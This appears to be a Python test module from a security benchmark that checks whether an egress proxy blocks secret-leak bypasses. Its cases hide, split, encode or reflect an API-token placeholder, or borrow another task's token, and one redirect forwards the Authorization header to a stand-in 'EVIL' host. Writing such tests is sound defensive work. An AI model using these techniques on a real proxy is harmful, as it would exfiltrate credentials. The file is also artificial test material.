"""Bypass cases about secrets: placeholders in the wrong place, and secrets that servers show."""

from __future__ import annotations

import base64
import gzip
from typing import TYPE_CHECKING

from bench.security.egress_cases import Act, Case, group
from bench.security.egress_client import connect, request
from bench.security.egress_world import ALLOWED, BASIC, EVIL, KEY, KEYED, READ, REPO, Box
from executors.placeholders import token_of

if TYPE_CHECKING:
    from collections.abc import Callable

MISPLACED = ("secret_not_for_here",)
LOG_MARK = "a-text-that-no-log-may-hold"


def with_token(host: str, make: Callable[[str], bytes]) -> Act:
    """A request that `make` builds around the task's placeholder."""

    async def act(box: Box) -> str:
        return await box.inside(host, make(box.token))

    return act


def plain_with_token(make: Callable[[str], bytes]) -> Act:
    """The same over plain http."""

    async def act(box: Box) -> str:
        return await box.plain(make(box.token))

    return act


def _post(body: bytes, *lines: str) -> bytes:
    return request("/echo", KEYED, *lines, method="POST", body=body)


def _basic(text: str) -> str:
    return "Authorization: Basic " + base64.b64encode(text.encode()).decode()


def _misplaced() -> list[Case]:
    url: dict[str, Callable[[str], bytes]] = {
        "query": lambda t: request(f"/echo?t={t}", KEYED),
        "path": lambda t: request(f"/{t}/echo", KEYED),
        "query beside the header": lambda t: request(f"/echo?t={t}", KEYED, f"Authorization: {t}"),
    }  # fmt: skip
    body: dict[str, Callable[[str], bytes]] = {
        "json": lambda t: _post(f'{{"t": "{t}"}}'.encode()),
        "form": lambda t: _post(f"t={t}".encode()),
        "multipart": lambda t: _post(f"--b\r\n\r\n{t}\r\n--b--".encode()),
        "beside the header": lambda t: _post(t.encode(), f"Authorization: {t}"),
        "chunks": lambda t: request("/echo", KEYED, "Transfer-Encoding: chunked", method="POST")
        + b"".join(b"1\r\n%c\r\n" % c for c in t.encode()) + b"0\r\n\r\n",
    }  # fmt: skip
    header: dict[str, Callable[[str], bytes]] = {
        "X-Echo": lambda t: request("/echo", KEYED, f"X-Echo: {t}"),
        "Cookie": lambda t: request("/echo", KEYED, f"Cookie: t={t}"),
        "Referer beside it": lambda t: request(
            "/echo", KEYED, f"Authorization: {t}", f"Referer: {t}"
        ),
        "Basic in another": lambda t: request("/echo", KEYED, _basic(f"u:{t}").replace("Auth",
        "X-Auth")),
        "a name that ends alike": lambda t: request("/echo", KEYED, f"X-Authorization: {t}"),
    }  # fmt: skip
    where: dict[str, Act] = {
        "inspected": with_token(READ, lambda t: request("/echo", READ, f"Authorization: {t}")),
        "by path": with_token(REPO, lambda t: request("/repos/me/", REPO, f"Authorization: {t}")),
        "the other secret's": with_token(
            BASIC, lambda t: request("/echo", BASIC, f"Authorization: {t}")
        ),
        "Basic": with_token(READ, lambda t: request("/echo", READ, _basic(f"u:{t}"))),
    }  # fmt: skip
    split: dict[str, Callable[[str], bytes]] = {
        "half in another header": lambda t: request(
            "/echo", KEYED, f"Authorization: {t[:30]}", f"X-Rest: {t[30:]}"
        ),
        "half in the body": lambda t: _post(t[30:].encode(), f"Authorization: {t[:30]}"),
        "over two credentials": lambda t: request(
            "/echo", KEYED, f"Authorization: {t[:30]}", f"Authorization: {t[30:]}"
        ),
    }
    for_plain: dict[str, Act] = {
        host: plain_with_token(
            lambda t, h=host: request(f"http://{h}/echo", h, f"Authorization: {t}")  # type: ignore[misc]
        )
        for host in (KEYED, ALLOWED, BASIC)
    }
    for_plain["Basic"] = plain_with_token(
        lambda t: request(f"http://{KEYED}/echo", KEYED, _basic(f"u:{t}"))
    )

    def acts(made: dict[str, Callable[[str], bytes]]) -> dict[str, Act]:
        return {name: with_token(KEYED, one) for name, one in made.items()}

    return [
        *group("placeholder_in_url", acts(url), MISPLACED),
        *group("placeholder_in_body", acts(body), MISPLACED),
        *group("placeholder_in_header", acts(header), MISPLACED),
        *group("placeholder_elsewhere", where, MISPLACED),
        *group("placeholder_split", acts(split), ("secret_not_for_here", "200"), (KEYED,)),
        *group("placeholder_over_http", for_plain, MISPLACED),
    ]  # fmt: skip


def _foreign(name: str, *, no: int | None = None, is_cut: bool = False) -> Act:
    async def act(box: Box) -> str:
        token = token_of(KEY, no or box.task.no + 1, name)
        token = token[:-1] if is_cut else token
        return await box.inside(KEYED, request("/echo", KEYED, f"Authorization: {token}"))

    return act


def _encoded() -> list[Case]:
    def post(code: Callable[[bytes], bytes]) -> Act:
        return with_token(KEYED, lambda t: _post(code(t.encode())))

    acts: dict[str, Act] = {
        "base64": post(base64.b64encode), "gzip": post(gzip.compress),
        "hex": post(lambda t: t.hex().encode()),
        "upper case": post(bytes.upper), "escaped": post(lambda t: t.replace(b"_", b"%5f")),
        "backwards": post(lambda t: t[::-1]),
    }  # fmt: skip
    foreign = {
        "another task's": _foreign("API_KEY"), "task 0's": _foreign("API_KEY", no=10**6),
        "a secret's that is not there": _foreign("NO_SUCH"),
        "cut short": _foreign("API_KEY", is_cut=True),
    }  # fmt: skip
    return [
        *group("placeholder_encoded", acts, ("200",), (KEYED,)),
        *group("placeholder_foreign", foreign, MISPLACED),
    ]


SHOWN = (
    "echo", "header", "json", "html", "quoted", "base64", "chunks", "edge", "trailer", "denied",
    "hints",
    "extension", "closing",
)  # fmt: skip
UNREADABLE = ("gzip", "deflate", "coded", "switch")


def _login(box: Box, path: str) -> bytes:
    return request(f"/{path}", BASIC, _basic(f"me:{box.login}"))


def _logged_in(path: str) -> Act:
    async def act(box: Box) -> str:
        return await box.inside(BASIC, _login(box, path))

    return act


def _kept(host: str) -> Act:
    """A server shows later, in another connection and to another task, what it was sent once."""

    async def act(box: Box) -> str:
        token = box.token if host == KEYED else box.login
        await box.inside(host, request("/keep", host, f"Authorization: {token}"))
        async with box.world.box() as other:
            said = await other.inside(host, request("/kept", host))
            box.clients += other.clients
            return said

    return act


def _kept_plain(box: Box) -> object:
    async def act() -> str:
        await box.inside(KEYED, request("/keep", KEYED, f"Authorization: {box.token}"))
        async with box.world.box() as other:
            said = await other.plain(request(f"http://{KEYED}/kept", KEYED))
            box.clients += other.clients
            return said

    return act()


def _reflected() -> list[Case]:
    def bearer(path: str, form: str) -> Act:
        return with_token(KEYED, lambda t: request(f"/{path}", KEYED, f"Authorization: {form}{t}"))

    acts = {f"{p}": bearer(p, "") for p in SHOWN} | {
        f"{p} in words": bearer(p, "token ") for p in SHOWN
    }
    acts["hex"] = with_token(KEYED, lambda t: request("/hex", KEYED, f"Authorization: {t}"))
    acts["range"] = with_token(
        KEYED, lambda t: request("/echo", KEYED, f"Authorization: {t}", "Range: bytes=30-60")
    )
    acts["accepting gzip"] = with_token(
        KEYED, lambda t: request("/echo", KEYED, f"Authorization: {t}", "Accept-Encoding: gzip")
    )
    basic = {p: _logged_in(p) for p in SHOWN}
    kept = {KEYED: _kept(KEYED), BASIC: _kept(BASIC), "plain": _kept_plain}
    closed = {p: bearer(p, "") for p in UNREADABLE} | {
        f"basic {p}": _logged_in(p) for p in UNREADABLE
    }
    both = (KEYED, BASIC)
    return [
        *group("echo", acts, ("200", "401"), both), *group("echo_basic", basic, ("200",
        "401"), both),
        *group("echo_later", kept, ("200",), both),  # type: ignore[arg-type]
        *group("echo_compressed", closed, ("encoding_refused", "upstream_failed"), both),
    ]  # fmt: skip


def _followed(path: str, next_host: str, *, is_plain: bool) -> Act:
    """The client follows a redirect with the same headers."""

    async def act(box: Box) -> str:
        first = await box.inside(KEYED, request(f"/{path}", KEYED, f"Authorization: {box.token}"))
        if first != "302":
            return f"first {first}"
        line = f"Authorization: {box.token}"
        if is_plain:
            return await box.plain(request(f"http://{next_host}/take", next_host, line))
        if next_host in (READ, BASIC):
            return await box.inside(next_host, request("/take", next_host, line))
        return await box.plain(connect(f"{next_host}:443"))

    return act


def _redirects() -> list[Case]:
    acts = {
        "https": _followed("moved", EVIL, is_plain=False),
        "http": _followed("moved", EVIL, is_plain=True),
        "granted, inspected": _followed("moved", READ, is_plain=False),
        "another secret's host": _followed("moved", BASIC, is_plain=False),
        "down to http": _followed("moved_plain", KEYED, is_plain=True),
    }  # fmt: skip
    expects = ("access_not_granted", "secret_not_for_here")
    return group("redirect", acts, expects, (KEYED,))


def _in_books(send: Callable[[Box], bytes], host: str) -> Act:
    """Nothing that the request said stands in the trail or in a log."""

    async def act(box: Box) -> str:
        said = await box.inside(host, send(box)) if host else await box.plain(send(box))
        rows = await box.world.database.fetch(
            "select seq from audit where body like $1", f"%{LOG_MARK}%"
        )
        is_logged = any(LOG_MARK in line for line in box.world.logs.lines)
        return "written down" if rows or is_logged else said

    return act


def _books() -> list[Case]:
    target = f"/echo?token={LOG_MARK}"
    acts = {
        "inspected": _in_books(lambda _: request(target, READ), READ),
        "with a secret": _in_books(
            lambda b: request(target, KEYED, f"Authorization: {b.token}"), KEYED
        ),
        "plain": _in_books(lambda _: request(f"http://{ALLOWED}{target}", ALLOWED), ""),
        "refused by rule": _in_books(lambda _: request(target, READ, method="POST"), READ),
        "refused by form": _in_books(lambda _: request(target + "\\", READ), READ),
        "refused header": _in_books(lambda _: request("/", READ, f"X: {LOG_MARK}\x00"), READ),
    }  # fmt: skip
    expects = ("200", "denied_by_owner", "path_refused", "malformed")
    return group("query_in_books", acts, expects, (READ, KEYED, ALLOWED))


CASES = [*_misplaced(), *_encoded(), *_reflected(), *_redirects(), *_books()]
